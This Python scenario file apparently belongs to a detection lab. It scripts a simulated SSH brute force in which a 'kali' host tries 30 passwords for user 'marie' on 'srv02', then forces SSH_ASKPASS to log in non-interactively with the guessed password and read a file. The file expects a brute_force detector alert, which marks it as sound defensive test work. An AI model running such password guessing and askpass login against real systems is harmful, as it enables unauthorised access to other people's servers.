"""hydra on OpenSSH; one password is right, and the laptop comes back with it."""
import services
from attacks import guess, wordlist
from catalogue import CANARY

TITLE = "An SSH brute force that ends in success"
START = "2026-11-24 16:30:00"
STORY = "A laptop tries 30 passwords on a server with hydra until one is right, then opens a session with it (sshpass is not needed: askpass) and reads files."
EXPECT = [{"detector": "brute_force", "attacker": "kali", "victim": "srv02"}]
ALLOWED = ["attacker_tool_host"]


def run(lab):
    server, kali = lab.host("srv02"), lab.host("kali")
    services.ssh(server)
    ask = kali.file("ask", f"#!/bin/sh\necho '{CANARY}'\n")
    kali.run("chmod", "755", ask)
    lab.record()
    guess(kali, "ssh", server, "marie", wordlist(30, right=CANARY, at=27), tasks=4)
    lab.skip(40)
    kali.run("env", f"SSH_ASKPASS={ask}", "SSH_ASKPASS_REQUIRE=force", "ssh", *services.admin_key(lab)[2:], f"marie@{server.ip}",
             "id; cat /etc/services | head -200")
